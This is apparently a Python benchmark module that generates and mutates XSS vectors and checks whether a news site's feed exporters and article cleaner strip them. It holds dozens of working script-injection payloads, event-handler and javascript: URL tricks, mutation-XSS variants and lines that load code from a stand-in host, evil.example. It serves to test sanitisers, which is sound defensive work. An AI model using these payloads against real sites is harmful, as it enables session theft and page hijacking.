"""Hostile story bodies, and whether anything of them is left in a feed or in an article's HTML.

``python -m bench.hostile COLLECTION…`` reads public collections of vectors as well: ``items.js`` of
github.com/cure53/H5SC (html5sec.org), ``expect.mjs`` of github.com/cure53/DOMPurify. Nothing of theirs is
here: the vectors below are our own.
"""

from __future__ import annotations

import argparse
import json
import random
import re
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import urlsplit

import lxml.html
from lxml import etree

from exporters.feeds import atom, check, jsonfeed, rss
from exporters.feeds.model import Feed, Item
from pipelines.clean import clean
from pipelines.types import Page

HOME = "https://www.example.org/"
SEED = 20260301
#: Marks what each vector must not take with it.
STORY = "The council met on Tuesday and talked about the ferry until late in the evening."
_BEFORE = "For eleven years the ferry has crossed the river at dawn, and for eleven years it has been late."
_THEN = "Now its engine has failed for good, and the two villages on either bank have to decide who pays."

# What may be left, said here anew: the sanitiser's own list proves nothing.
_TAGS = frozenset(
    "a abbr b blockquote br caption cite code dd del div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i"
    " img ins kbd li mark ol p pre q s samp small span strong sub sup table tbody td tfoot th thead tr u ul"
    " var".split()
)
_ATTRIBUTES = frozenset("href src alt title width height hreflang start colspan rowspan scope".split())
_SCHEMES = frozenset({"http", "https", "mailto"})

_CODE = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "eval(atob('YWxlcnQoMSk='))",
    "import('//evil.example/x.js')",
    "location='//evil.example'",
    "window.onerror=alert;throw 1",
    "&#97;lert(1)",
    "\\u0061lert(1)",
)
_HANDLERS = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onanimationstart",
    "ontoggle",
    "onbegin",
    "onpointerenter",
    "onscrollend",
    "onbeforematch",
    "oncontentvisibilityautostatechange",
    "ONLOAD",
    "oNeRrOr",
)
_CARRIERS = (
    "a",
    "b",
    "body",
    "button",
    "details open",
    "div",
    "form",
    "frameset",
    "iframe",
    "img src=x",
    "input autofocus",
    "keygen",
    "marquee",
    "math",
    "meter",
    "object",
    "p",
    "select",
    "svg",
    "table",
    "textarea",
    "track",
    "video src=x",
    "audio src=x",
    "x-own",
    "svg/onload",
    "embed src=x",
    "isindex",
    "link rel=stylesheet",
    "meta",
    "source",
)
_SCRIPTED = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java&Tab;script:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "&#x6A&#x61;vascript:{}",
    "\x01javascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>",
    "feed:javascript:{}",
    "view-source:javascript:{}",
    "blob:{}",
    "//javascript:{}",
    "livescript:{}",
    "mocha:{}",
    "jar:javascript:{}!/",
    "file:///etc/passwd",
    "about:blank#{}",
    "intent:{}",
)
_LINKS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><input type=submit></form>',
    '<button formaction="{}">x</button>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<svg><use href="{}"/></svg>',
    '<math href="{}">x</math>',
    '<video poster="{}"></video>',
    '<body background="{}">',
    '<table background="{}">',
    '<link rel=import href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}">',
    '<area href="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q>',
    '<img srcset="{} 2x">',
    '<p style="background:url({})">x</p>',
    '<svg><image href="{}"/></svg>',
    '<input type=image src="{}">',
    '<svg><animate attributeName=href values="{}"/></svg>',
    '<a ping="{}" href="/x">x</a>',
    '<img dynsrc="{}">',
    '<del cite="{}">x</del>',
    '<html manifest="{}">',
    '<track src="{}">',
    '<img longdesc="{}" src="/y">',
)
_BLOCKS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>{}</script>",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "<script>{}",
    "<script src=data:,{}></script",
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} /></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></iframe></foreignObject></svg>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<style>@import 'data:,x{{}}{}';</style>",
    "<style><img src='</style><img src=x onerror={}>'>",
    "<title><img src='</title><img src=x onerror={}>'></title>",
    "<textarea><img src='</textarea><img src=x onerror={}>'>",
    "<xmp><img src='</xmp><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<!--><img src=x onerror={}>-->",
    "<!--<img src='--><img src=x onerror={}>'",
    "<![CDATA[<img src=x onerror={}>]]>",
    "]]><script>{}</script>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<!DOCTYPE x [<!ENTITY y '{}'>]>&y;",
    "<plaintext><img src=x onerror={}>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<select><option><style></option></select><img src=x onerror={}></style>",
    "<p id=x name=getElementById>{}</p>",
    "<div style='width:expression({})'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x#y)'>{}</div>",
    "<form><input name=action><button onclick={}>x</button></form>",
    "<marquee behavior=alternate onstart={}>x</marquee>",
    "<portal src='//evil.example/{}'></portal>",
    "<object type=text/html data='//evil.example/{}'></object>",
    "<details open ontoggle={}>x</details>",
    "<dialog open onclose={}>x</dialog>",
    "<input onfocus={} autofocus>",
    "<a href='#' target=_blank onclick={}>x</a>",
    "<img src=x:x onerror\x0b={}>",
    "<img/src='x'/onerror={}>",
    '<img src="x` `<script>{}</script>"` `>',
    "<img alt='`><img src=x onerror={}>' src=x>",
    "<b <script>{}</script>0</b>",
    "<p>\x00<scr\x00ipt>{}</scr\x00ipt></p>",
    "<p>&#0;&#x1;&#xFFFE;\x0b\ud800\ufffe{}</p>",
    "</p></div></body></html><script>{}</script>",
    "<a href='http://www.example.org/\" onclick=\"{}'>x</a>",
    "<img src='https://www.example.org/?a=\"onerror={}'>",
    "<table><td background=x><svg></table><img src=x onerror={}>",
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    "<math><annotation-xml encoding=text/html><p><svg onload={}></p></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg><set attributeName=onload to={}>",
    "<embed code='//evil.example/x.swf' allowscriptaccess=always>{}",
    "<applet code={}>x</applet>",
    "<layer src=//evil.example/{}></layer>",
    "<meta charset=utf-7>+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<link rel=stylesheet href=//evil.example/{}.css>",
    "<p contenteditable onbeforeinput={}>x</p>",
    "<span slot=x is=y popover=auto onbeforetoggle={}>x</span>",
)
_NOISE = (
    "\x00",
    "\x0b",
    "\x0c",
    "\t",
    "\n",
    "/",
    "<",
    ">",
    '"',
    "'",
    "`",
    "&",
    ";",
    "<!--",
    "-->",
    "]]>",
    "\ud800",
    "😀",
)


def vectors() -> list[str]:
    """Our own."""
    made = [block.format(code) for block in _BLOCKS for code in _CODE[:3]]
    made += [link.format(url.format("alert(1)")) for link in _LINKS for url in _SCRIPTED]
    made += [
        f"<{tag} {handler}={_CODE[i % 3]}>x" for i, tag in enumerate(_CARRIERS) for handler in _HANDLERS[::2]
    ]
    made += [f'<p {handler}="{code}">x</p>' for handler in _HANDLERS for code in _CODE]
    return list(dict.fromkeys(made))


def bodies(seeds: Sequence[str], count: int, seed: int = SEED) -> list[str]:
    """So many bodies, two thirds of them seeds, the others mutations; the same ones every time."""
    chance = random.Random(seed)
    found = chance.sample(list(seeds), min(len(seeds), 2 * count // 3))
    while len(found) < count:
        found.append(_mutation(chance, seeds))
    return [f"<p>{STORY}</p>{vector}<p>Nobody knows when it will sail again.</p>" for vector in found]


def _mutation(chance: random.Random, seeds: Sequence[str]) -> str:
    body = chance.choice(seeds)
    for _ in range(chance.randint(1, 4)):
        place = chance.randint(0, len(body))
        kind = chance.randrange(6)
        if kind == 0:  # a stray character
            body = body[:place] + chance.choice(_NOISE) + body[place:]
        elif kind == 1:  # a piece is lost
            body = body[:place] + body[place + chance.randint(1, 6) :]
        elif kind == 2:  # one inside another
            body = body[:place] + chance.choice(seeds) + body[place:]
        elif kind == 3:  # a letter becomes a reference
            body = body[:place] + "".join(f"&#{ord(c)};" for c in body[place : place + 1]) + body[place + 1 :]
        elif kind == 4:
            body = body.swapcase()
        else:  # one after another, the first cut short
            body = body[:place] + chance.choice(seeds)
    return body


def dangers(html: str) -> list[str]:
    """What in a body could do anything: every element and attribute that no story needs."""
    found = [
        f"character {ord(c):#x}"
        for c in re.findall("[^\t\n\x20-\x7e\xa0-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", html)
    ]
    if not html.strip():
        return found
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter():
        if not isinstance(element.tag, str):
            found.append(f"a comment or instruction: {etree.tostring(element)[:60]!r}")
            continue
        if element.tag not in _TAGS:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name not in _ATTRIBUTES:
                found.append(f"<{element.tag} {name}>")
            elif name in ("href", "src") and urlsplit(value.strip()).scheme.lower() not in _SCHEMES:
                found.append(f"{name}={value[:60]}")
    # What a lenient parser may see where a strict one sees text.
    found += re.findall(
        r"<\s*/?\s*(?:script|style|svg|math|iframe|object|embed|form|base|meta|link)\b", html, re.IGNORECASE
    )
    return found


def feed_of(several: Sequence[str]) -> Feed:
    """A feed whose words are hostile in every place."""
    items = tuple(
        Item(
            id=f"urn:uuid:{n}",
            url=f"{HOME}story/{n}",
            title=f"Story {n} {body[-60:]}",
            summary=body,
            html=body,
            published="2026-03-01T08:30:00Z",
            updated="2026-03-01T08:30:00Z",
            authors=(body[:80],),
            tags=(body[80:140],),
        )
        for n, body in enumerate(several)
    )
    return Feed(
        id="urn:uuid:feed",
        title="Hostile",
        link=HOME,
        description="Hostile",
        updated="2026-03-01T08:30:00Z",
        items=items,
    )


def bodies_in(feed: Feed) -> Iterator[tuple[str, str]]:
    """Every piece of HTML that the feed carries, by format, as a reader takes it out.

    Ends with an AssertionError where a format is not well-formed."""
    written = {"rss": rss.render(feed), "atom": atom.render(feed), "json": jsonfeed.render(feed)}
    for name, look in (("rss", check.rss), ("atom", check.atom), ("json", check.jsonfeed)):
        said = look(written[name])
        assert said == len(feed.items), f"{name}: {said}"
    for item in etree.fromstring(written["rss"]).iter("item"):
        for place in ("description", f"{{{rss.CONTENT}}}encoded"):
            yield "rss", item.findtext(place) or ""
    for content in etree.fromstring(written["atom"]).iter(f"{{{atom.NAMESPACE}}}content"):
        yield "atom", content.text or ""
    for entry in json.loads(written["json"])["items"]:
        yield "json", entry["content_html"]


def article_html(body: str, number: int) -> str:
    """What cleaning makes of a page with that body."""
    page = (
        f"<!DOCTYPE html><html><head><title>A ferry, number {number}</title></head><body><article>"
        f"<h1>A ferry, number {number}</h1><p>{_BEFORE}</p><p>{_THEN}</p>{body}</article></body></html>"
    )
    return clean(Page(url=f"{HOME}story/{number}", body=page.encode("utf-8", "surrogatepass"))).html


def of_collection(path: Path) -> list[str]:
    """The vectors of a public collection's file."""
    text = path.read_text("utf-8")
    if path.suffix == ".mjs":
        return [json.loads(f'"{found}"') for found in re.findall(r'"payload": "((?:[^"\\]|\\.)*)"', text)]
    found = re.findall(r"'data'\s*:\s*'((?:[^'\\]|\\.)*)'", text)
    return [re.sub(r"%js_\w+%", "javascript:alert(1)", re.sub(r"\\(.)", r"\1", each)) for each in found]


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.hostile", description=__doc__)
    parser.add_argument("collections", nargs="*", type=Path, metavar="COLLECTION", help="file of vectors")
    seeds = vectors()
    for path in parser.parse_args().collections:
        others = of_collection(path)
        print(f"{path}: {len(others)} vectors")
        seeds += others
    several = bodies(seeds, 3 * len(seeds) // 2)
    bad = [(form, html, what) for form, html in bodies_in(feed_of(several)) if (what := dangers(html))]
    for number, body in enumerate(several):
        html = article_html(body, number)
        if what := dangers(html):
            bad.append(("article", html, what))
    print(f"{len(several)} bodies, {len(seeds)} of them vectors and the others mutations of them:")
    print(f"{len(bad)} pieces of HTML with anything left")
    for form, html, what in bad[:10]:
        print(f"  {form}: {what[:3]} in {html[:200]!r}")
    return int(bool(bad))


if __name__ == "__main__":
    sys.exit(main())
